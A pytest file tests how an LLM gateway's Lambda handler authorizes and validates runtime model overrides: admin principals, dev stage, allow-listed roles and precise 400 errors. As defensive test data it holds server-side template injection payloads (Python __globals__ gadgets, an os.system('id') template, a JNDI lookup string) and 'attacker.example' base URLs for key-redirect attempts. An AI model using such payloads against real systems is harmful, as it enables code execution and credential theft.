"""Runtime overrides through the handler: who may send them, what they can do, and what is refused.

STS is the loopback fake (tests.fakes.control_plane.FakeSts), so every AssumeRole is recorded:
a refused override must not have reached STS, the model, or the keys.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from lambda_src.settings import get_settings
from tests.fakes.aws_http import Reply
from tests.fakes.bedrock_runtime import FakeBedrockRuntime
from tests.fakes.control_plane import FakeSts
from tests.fakes.function_url import DEFAULT_CALLER_ARN
from tests.fakes.sagemaker_runtime import FakeSageMakerRuntime
from tests.lambda_src.support import MODELS, OPENAI_KEY, Invoke, Providers, PutKeys, ReadLogs, WriteInventory

ADMIN_ROLE = "arn:aws:iam::111122223333:role/platform/Admin"  # a role with a path
ADMIN_SESSION = "arn:aws:sts::111122223333:assumed-role/Admin/alice@example.com"
ADMIN_USER = "arn:aws:iam::111122223333:user/ops/bob"
EXPERIMENTS_ROLE = "arn:aws:iam::444455556666:role/experiments"
OTHER_ROLE = "arn:aws:iam::444455556666:role/production-models"
ENDPOINT = "partner-llm-endpoint"

# A container with its own wire format: the prompt and settings under "instances", the text deep
# in "predictions", its own names for max tokens and temperature, behind a role in another account.
CUSTOM_SPEC: dict[str, Any] = {
    "provider": "sagemaker",
    "model": ENDPOINT,
    "region": "us-east-1",
    "role_arn": EXPERIMENTS_ROLE,
    "api": "content-handler",
    "prompt_template": "<|system|>{system}\n{history}<|user|>{prompt}\n<|assistant|>",
    "content_handler": {
        "content_type": "application/json",
        "accepts": "application/json",
        "input_prompt_path": "instances[0].prompt",
        "input_kwargs_path": "instances[0].config",
        "output_path": "$.predictions[0].candidates[0].text",
        "parameter_names": {"max_tokens": "max_length", "temperature": "temp"},
    },
    "model_kwargs": {"temperature": 0.3, "repetition_penalty": 1.1},
    "endpoint_kwargs": {"custom_attributes": "trace=on", "target_variant": "blue"},
    "limits": {"max_tokens": 256},
}
ANSWER = Reply(200, {"predictions": [{"candidates": [{"text": "custom says hi"}]}]})


@pytest.fixture(scope="module")
def _sts_server() -> Iterator[FakeSts]:
    with FakeSts() as sts:
        yield sts


@pytest.fixture
def sts(_sts_server: FakeSts, monkeypatch: pytest.MonkeyPatch) -> FakeSts:
    _sts_server.calls.clear()
    _sts_server.trust = {EXPERIMENTS_ROLE: None, OTHER_ROLE: None}
    monkeypatch.setenv("AWS_ENDPOINT_URL_STS", _sts_server.url)
    return _sts_server


@pytest.fixture(autouse=True)
def _dev_deployment(
    write_inventory: WriteInventory,
    sagemaker: FakeSageMakerRuntime,
    sts: FakeSts,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    write_inventory(MODELS)
    monkeypatch.setenv("STAGE", "dev")
    monkeypatch.setenv("ADMIN_PRINCIPALS", f"{ADMIN_ROLE},{ADMIN_USER}")
    monkeypatch.setenv("OVERRIDE_ROLE_ARNS", EXPERIMENTS_ROLE)
    get_settings.cache_clear()
    sagemaker.script(ENDPOINT, ANSWER)


def _chat(invoke: Invoke, caller: str = ADMIN_SESSION, **body: Any) -> dict[str, Any]:
    body.setdefault("model", "my-experiment")
    body.setdefault(
        "messages", [{"role": "system", "content": "Be kind."}, {"role": "user", "content": "hello"}]
    )
    return invoke("POST", "/v1/chat/completions", body, caller_arn=caller)


def _without_caller(invoke: Invoke, body: dict[str, Any]) -> dict[str, Any]:
    """As with auth NONE: the request context has no IAM authorizer."""
    return invoke("POST", "/v1/chat/completions", body, caller_arn=None)


def _denied(response: dict[str, Any], sts: FakeSts, sagemaker: FakeSageMakerRuntime) -> dict[str, Any]:
    assert response["statusCode"] == 403, response["body"]
    error = json.loads(response["body"])["error"]
    assert error["type"] == "permission_error"
    assert sts.calls == []
    assert sagemaker.requests == []
    return error


# --- an admin in a dev stage --------------------------------------------------------------------


def test_an_admin_drives_a_custom_sagemaker_spec_end_to_end(
    invoke: Invoke, sagemaker: FakeSageMakerRuntime, sts: FakeSts, read_logs: ReadLogs
) -> None:
    response = _chat(invoke, custom_model=CUSTOM_SPEC, max_tokens=40)

    assert response["statusCode"] == 200, response["body"]
    body = json.loads(response["body"])
    assert body["model"] == "my-experiment"
    assert body["choices"][0]["message"]["content"] == "custom says hi"
    (sent,) = sagemaker.requests
    assert sent.target == ENDPOINT
    assert sent.json == {
        "instances": [
            {
                "prompt": "<|system|>Be kind.\n<|user|>hello\n<|assistant|>",
                "config": {"repetition_penalty": 1.1, "max_length": 40, "temp": 0.3},
            }
        ]
    }
    assert sent.headers["x-amzn-sagemaker-custom-attributes"] == "trace=on"
    assert sent.headers["x-amzn-sagemaker-target-variant"] == "blue"
    (assumed,) = sts.calls_of("AssumeRole")
    assert assumed.params["RoleArn"] == EXPERIMENTS_ROLE
    assert (
        sts.issued[str(sent.access_key_id)] == EXPERIMENTS_ROLE
    )  # called with the assumed role's credentials
    logged = [line for line in read_logs() if line["message"] in ("runtime override", "chat completion")]
    assert [line["message"] for line in logged] == ["runtime override", "chat completion"]
    assert all(line["caller"] == ADMIN_SESSION for line in logged)
    assert logged[1]["override"] == "custom_model"


def test_an_admin_user_is_matched_exactly(invoke: Invoke, sagemaker: FakeSageMakerRuntime) -> None:
    assert _chat(invoke, caller=ADMIN_USER, custom_model=CUSTOM_SPEC)["statusCode"] == 200


def test_model_overrides_change_an_inventory_entrys_kwargs(
    invoke: Invoke, sagemaker: FakeSageMakerRuntime
) -> None:
    overrides = {
        "model_kwargs": {"temperature": 0.9, "top_k": 5},
        "endpoint_kwargs": {"target_variant": "canary"},
    }

    response = _chat(invoke, model="tgi-llama2", model_overrides=overrides)

    assert response["statusCode"] == 200, response["body"]
    (sent,) = sagemaker.requests
    assert sent.json["parameters"]["temperature"] == 0.9 and sent.json["parameters"]["top_k"] == 5
    assert sent.headers["x-amzn-sagemaker-target-variant"] == "canary"


def test_a_custom_bedrock_spec_behind_an_allowed_role(
    invoke: Invoke, bedrock: FakeBedrockRuntime, sts: FakeSts
) -> None:
    spec = {
        "provider": "bedrock",
        "model": "us.anthropic.claude-3-5-haiku-20241022-v1:0",
        "region": "us-west-2",
        "role_arn": EXPERIMENTS_ROLE,
        "model_kwargs": {"temperature": 0.2, "top_k": 50},
    }

    response = _chat(invoke, custom_model=spec)

    assert response["statusCode"] == 200, response["body"]
    (sent,) = bedrock.requests
    assert sent.target == "us.anthropic.claude-3-5-haiku-20241022-v1:0"
    assert sent.json["inferenceConfig"] == {"temperature": 0.2}
    assert sent.json["additionalModelRequestFields"] == {"top_k": 50}
    assert sts.issued[str(sent.access_key_id)] == EXPERIMENTS_ROLE


def test_a_custom_third_party_spec_cannot_send_the_key_elsewhere(
    invoke: Invoke, write_inventory: WriteInventory, keys_file: PutKeys, providers: Providers
) -> None:
    write_inventory(MODELS, ["openai"])
    keys_file(providers.keys())
    kwargs = {"seed": 7, "base_url": "https://attacker.example", "api_key": "mine"}

    response = _chat(
        invoke, custom_model={"provider": "openai", "model": "gpt-4.1-mini", "model_kwargs": kwargs}
    )

    assert response["statusCode"] == 200, response["body"]
    # Key and base URL come from the secret; model_kwargs only add fields to the request body.
    (sent,) = providers.openai.requests
    assert (sent.json["model"], sent.json["seed"], sent.json["base_url"]) == (
        "gpt-4.1-mini",
        7,
        "https://attacker.example",
    )
    assert sent.headers["authorization"] == f"Bearer {OPENAI_KEY}"


def test_a_custom_openai_compatible_spec_must_use_a_configured_connection(
    invoke: Invoke,
    write_inventory: WriteInventory,
    keys_file: PutKeys,
    providers: Providers,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    write_inventory(providers.models(), ["openai_compatible"])
    keys_file(providers.keys())
    monkeypatch.setenv("ALLOW_LOOPBACK_UPSTREAMS", "true")
    get_settings.cache_clear()
    configured = providers.compat_connection()
    elsewhere = {**configured, "base_url": "https://attacker.example/v1"}

    refused = _chat(
        invoke, custom_model={"provider": "openai_compatible", "model": "m", "connection": elsewhere}
    )
    answered = _chat(
        invoke, custom_model={"provider": "openai_compatible", "model": "m", "connection": configured}
    )

    assert refused["statusCode"] == 400
    assert json.loads(refused["body"])["error"]["param"] == "custom_model.connection"
    assert answered["statusCode"] == 200, answered["body"]
    (sent,) = providers.compat.requests
    assert sent.json["model"] == "m"


def test_a_custom_ai21_spec_is_refused_with_the_shutdown(invoke: Invoke) -> None:
    response = _chat(invoke, custom_model={"provider": "ai21", "model": "jamba-large"})

    assert response["statusCode"] == 400
    assert "shut down its Jamba API on 2026-08-09" in json.loads(response["body"])["error"]["message"]


# --- refusals: 403 before STS, keys or the model --------------------------------------------------


def test_a_non_admin_is_refused(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime, read_logs: ReadLogs
) -> None:
    error = _denied(_chat(invoke, caller=DEFAULT_CALLER_ARN, custom_model=CUSTOM_SPEC), sts, sagemaker)

    assert error["param"] == "custom_model"
    assert "admin principals" in error["message"]
    (line,) = [line for line in read_logs() if line["message"] == "runtime override refused"]
    assert (line["caller"], line["reason"]) == (DEFAULT_CALLER_ARN, "the caller is not an admin principal")


def test_a_non_admin_may_not_override_kwargs_either(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime
) -> None:
    _denied(
        _chat(invoke, caller=DEFAULT_CALLER_ARN, model="tgi", model_overrides={"model_kwargs": {}}),
        sts,
        sagemaker,
    )


@pytest.mark.parametrize("stage", ["prod", "Dev", "development", ""])
def test_an_admin_outside_a_dev_stage_is_refused(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime, monkeypatch: pytest.MonkeyPatch, stage: str
) -> None:
    monkeypatch.setenv("STAGE", stage)
    get_settings.cache_clear()

    _denied(_chat(invoke, custom_model=CUSTOM_SPEC), sts, sagemaker)


def test_without_an_iam_caller_overrides_are_refused(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime
) -> None:
    body = {"model": "x", "messages": [{"role": "user", "content": "hi"}], "custom_model": CUSTOM_SPEC}

    _denied(_without_caller(invoke, body), sts, sagemaker)


def test_a_role_outside_the_allow_list_is_refused(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime
) -> None:
    error = _denied(_chat(invoke, custom_model={**CUSTOM_SPEC, "role_arn": OTHER_ROLE}), sts, sagemaker)

    assert error["param"] == "custom_model.role_arn"
    assert "overrides.allowed_role_arns" in error["message"]


def test_a_role_with_another_accounts_same_name_is_not_an_admin(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime
) -> None:
    impostor = "arn:aws:sts::999988887777:assumed-role/Admin/alice"

    _denied(_chat(invoke, caller=impostor, custom_model=CUSTOM_SPEC), sts, sagemaker)


def test_refused_callers_learn_nothing_about_the_schema(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime
) -> None:
    error = _denied(_chat(invoke, caller=DEFAULT_CALLER_ARN, custom_model={"nonsense": True}), sts, sagemaker)

    assert "nonsense" not in error["message"]


# --- what an admin may not send: 400 ------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "param", "text"),
    [
        ({"custom_model": {**CUSTOM_SPEC, "colour": "red"}}, "custom_model.colour", "Unrecognized"),
        ({"custom_model": {**CUSTOM_SPEC, "id": "other"}}, "custom_model.id", "must be the request's model"),
        ({"custom_model": {**CUSTOM_SPEC, "task": "embedding"}}, "custom_model.task", "only chat models"),
        (
            {"custom_model": {**CUSTOM_SPEC, "api": "converse"}},
            "custom_model.api",
            "SageMaker endpoints take",
        ),
        (
            {"custom_model": {**CUSTOM_SPEC, "content_handler": None}},
            "custom_model.content_handler",
            "required",
        ),
        (
            {"custom_model": {**CUSTOM_SPEC, "content_handler": {"output_path": "$..x"}}},
            "custom_model.content_handler",
            "unsupported syntax",
        ),
        # Paths are bounded and checked whole, before any call.
        *(
            (
                {
                    "custom_model": {
                        **CUSTOM_SPEC,
                        "content_handler": {**CUSTOM_SPEC["content_handler"], field: path},
                    }
                },
                "custom_model.content_handler",
                text,
            )
            for field, path, text in (
                ("output_path", "$" + ".a" * 5000, "at most 256 characters"),
                ("output_path", "$" + ".a" * 20, "at most 16 steps"),
                ("output_path", "$[" + "9" * 4300 + "]", "at most 256 characters"),
                ("output_path", "$[" + "9" * 50 + "]", "unsupported syntax"),
                ("input_prompt_path", "a[1]", "index 1 cannot be created"),
                ("input_prompt_path", "[0]", "needs a list"),
                ("input_prompt_path", "[0]" * 10, "needs a list"),
                ("input_kwargs_path", "instances[0].prompt.x", "wrong kind of value"),
            )
        ),
        (
            {"custom_model": {**CUSTOM_SPEC, "model_kwargs": {"temperature": "hot"}}},
            "custom_model.model_kwargs.temperature",
            "number",
        ),
        (
            {"custom_model": {"provider": "openai", "model": "gpt-4o", "region": "us-east-1"}},
            "custom_model.region",
            "does not apply",
        ),
        (
            {"custom_model": {"provider": "bedrock", "model": "x", "endpoint_kwargs": {}}},
            "custom_model.endpoint_kwargs",
            "SageMaker",
        ),
        ({"custom_model": CUSTOM_SPEC, "model_overrides": {}}, "model_overrides", "not both"),
        (
            {"model": "claude", "model_overrides": {"endpoint_kwargs": {"target_variant": "x"}}},
            "model_overrides.endpoint_kwargs",
            "not a SageMaker endpoint",
        ),
        (
            {"model": "tgi", "model_overrides": {"model_kwarg": {}}},
            "model_overrides.model_kwarg",
            "Unrecognized",
        ),
        (
            {"model": "tgi", "model_overrides": {"model_kwargs": {"max_tokens": 0}}},
            "model_overrides.model_kwargs.max_tokens",
            ">= 1",
        ),
    ],
)
def test_invalid_overrides_are_precise_400s(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime, body: dict[str, Any], param: str, text: str
) -> None:
    response = _chat(invoke, **body)

    assert response["statusCode"] == 400, response["body"]
    error = json.loads(response["body"])["error"]
    assert error["param"] == param
    assert text in error["message"]
    assert sts.calls == [] and sagemaker.requests == []


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{0.__globals__}",
        "{prompt.__class__.__init__.__globals__}",
        "{{ config }}",
        "{config}",
        "{% import os %}{{ os.system('id') }}",
        "{prompt[0]}",
        "${jndi:ldap://example.com/x}",
    ],
)
def test_template_code_is_refused(
    invoke: Invoke, sts: FakeSts, sagemaker: FakeSageMakerRuntime, template: str
) -> None:
    response = _chat(invoke, custom_model={**CUSTOM_SPEC, "prompt_template": "Q: {prompt} " + template})

    assert response["statusCode"] == 400, response["body"]
    error = json.loads(response["body"])["error"]
    assert error["param"] == "custom_model.prompt_template"
    assert "the only placeholders are {system}, {history}, {prompt}" in error["message"]
    assert sts.calls == [] and sagemaker.requests == []


def test_code_in_messages_stays_text(invoke: Invoke, sagemaker: FakeSageMakerRuntime) -> None:
    payload = "{{ ''.__class__.__mro__ }} {0.__globals__} {system} {% import os %}"

    response = _chat(invoke, custom_model=CUSTOM_SPEC, messages=[{"role": "user", "content": payload}])

    assert response["statusCode"] == 200
    assert (
        sagemaker.requests[0].json["instances"][0]["prompt"]
        == f"<|system|>\n<|user|>{payload}\n<|assistant|>"
    )


def test_a_template_cannot_blow_up_the_prompt(invoke: Invoke, sagemaker: FakeSageMakerRuntime) -> None:
    spec = {**CUSTOM_SPEC, "prompt_template": "{history}" * 1800}  # within the 16 KiB template limit
    messages = [
        {"role": "user", "content": "x" * 1000},
        {"role": "assistant", "content": "y"},
        {"role": "user", "content": "again"},
    ]

    response = _chat(invoke, custom_model=spec, messages=messages)

    assert response["statusCode"] == 400
    assert "above the limit" in json.loads(response["body"])["error"]["message"]
    assert sagemaker.requests == []
